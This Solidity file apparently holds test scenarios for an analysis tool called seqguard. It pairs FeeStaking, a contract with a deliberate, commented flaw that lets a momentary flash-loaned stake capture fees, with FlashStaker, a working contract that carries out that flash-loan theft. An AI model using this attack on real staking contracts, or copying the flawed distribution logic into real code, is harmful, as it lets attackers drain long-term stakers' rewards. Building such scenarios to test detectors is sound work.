// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC20, IFlashBorrower} from "./Interfaces.sol";
import {TokenVault} from "./TokenVault.sol";

/// @title FeeStaking: stake a token, earn a share of the fees the protocol sends in.
/// `distribute()` shares out every fee received since the last call over the current
/// stake, with a MasterChef-style reward-per-share accumulator.
/// @notice Written for seqguard's scenarios. BUG, reward-per-share taken at one instant,
/// as in the ApeCoin airdrop claim (March 2022: BAYC NFTs flash-borrowed from NFTX
/// claimed 60,564 APE) and New Free DAO (September 2022): anyone may call `distribute`,
/// and it pays whoever is staked at that moment, with no lock and no time weighting;
/// and `stake` does not share out the fees already received before it counts the new
/// stake. So a stake flash-borrowed just before a distribution and withdrawn just after
/// collects most of the fees meant for the long-term stakers.
contract FeeStaking {
    IERC20 public immutable stakeToken;
    IERC20 public immutable rewardToken;
    uint256 public totalStaked;
    uint256 public accRewardPerShare; // 1e18-scaled
    uint256 public reserved; // rewards distributed and not yet claimed

    mapping(address => uint256) public stakeOf;
    mapping(address => uint256) public rewardDebt;
    mapping(address => uint256) public owed;

    event Staked(address indexed who, uint256 amount);
    event Unstaked(address indexed who, uint256 amount);
    event Distributed(uint256 amount, uint256 perShare);
    event Claimed(address indexed who, uint256 amount);

    constructor(IERC20 stakeToken_, IERC20 rewardToken_) {
        require(address(stakeToken_) != address(rewardToken_), "FeeStaking: same token");
        (stakeToken, rewardToken) = (stakeToken_, rewardToken_);
    }

    function pending(address who) public view returns (uint256) {
        return owed[who] + stakeOf[who] * accRewardPerShare / 1e18 - rewardDebt[who];
    }

    /// The bug: anyone, any time, over whatever is staked right now.
    function distribute() public {
        uint256 fresh = rewardToken.balanceOf(address(this)) - reserved;
        if (fresh == 0 || totalStaked == 0) return;
        accRewardPerShare += fresh * 1e18 / totalStaked;
        reserved += fresh;
        emit Distributed(fresh, accRewardPerShare);
    }

    /// The bug's other half: fees waiting to be distributed are not shared out first.
    function stake(uint256 amount) external {
        _settle(msg.sender);
        require(stakeToken.transferFrom(msg.sender, address(this), amount));
        stakeOf[msg.sender] += amount;
        totalStaked += amount;
        rewardDebt[msg.sender] = stakeOf[msg.sender] * accRewardPerShare / 1e18;
        emit Staked(msg.sender, amount);
    }

    function unstake(uint256 amount) external {
        _settle(msg.sender);
        stakeOf[msg.sender] -= amount;
        totalStaked -= amount;
        rewardDebt[msg.sender] = stakeOf[msg.sender] * accRewardPerShare / 1e18;
        require(stakeToken.transfer(msg.sender, amount));
        emit Unstaked(msg.sender, amount);
    }

    function claim() external returns (uint256 amount) {
        _settle(msg.sender);
        amount = owed[msg.sender];
        owed[msg.sender] = 0;
        reserved -= amount;
        require(rewardToken.transfer(msg.sender, amount));
        emit Claimed(msg.sender, amount);
    }

    function _settle(address who) internal {
        owed[who] = pending(who);
        rewardDebt[who] = stakeOf[who] * accRewardPerShare / 1e18;
    }
}

/// @title FlashStaker: stakes a flash-borrowed amount around a FeeStaking distribution.
/// @notice Written for seqguard's scenarios: borrow the stake token, stake it, trigger
/// `distribute`, claim, unstake, repay with the fee (held beforehand). Reverts unless it
/// collects at least `minReward`.
contract FlashStaker is IFlashBorrower {
    TokenVault public immutable lender;
    FeeStaking public immutable staking;
    address private immutable owner;

    constructor(TokenVault lender_, FeeStaking staking_) {
        (lender, staking, owner) = (lender_, staking_, msg.sender);
    }

    function run(uint256 loan, uint256 minReward) external {
        require(msg.sender == owner, "FlashStaker: owner only");
        lender.flashLoan(loan, this, "");
        IERC20 reward = staking.rewardToken();
        uint256 got = reward.balanceOf(address(this));
        require(got >= minReward, "FlashStaker: no profit");
        require(reward.transfer(owner, got));
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata) external {
        require(msg.sender == address(lender), "FlashStaker: lender only");
        staking.stakeToken().approve(address(staking), amount);
        staking.stake(amount);
        staking.distribute();
        staking.claim();
        staking.unstake(amount);
        require(staking.stakeToken().transfer(address(lender), amount + fee));
    }
}
